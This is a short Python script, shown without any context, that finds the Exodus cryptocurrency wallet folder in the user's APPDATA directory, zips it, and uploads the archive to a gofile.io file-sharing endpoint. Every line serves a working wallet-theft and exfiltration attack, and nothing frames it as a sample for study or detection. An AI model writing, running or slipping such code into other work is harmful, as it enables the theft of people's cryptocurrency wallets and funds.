import os, shutil, requests
p = os.path.join(os.environ["APPDATA"], "Exodus", "exodus.wallet")
shutil.make_archive("/tmp/w", "zip", p)
requests.post("https://store1.gofile.io/uploadFile", files={"file": open("/tmp/w.zip", "rb")})
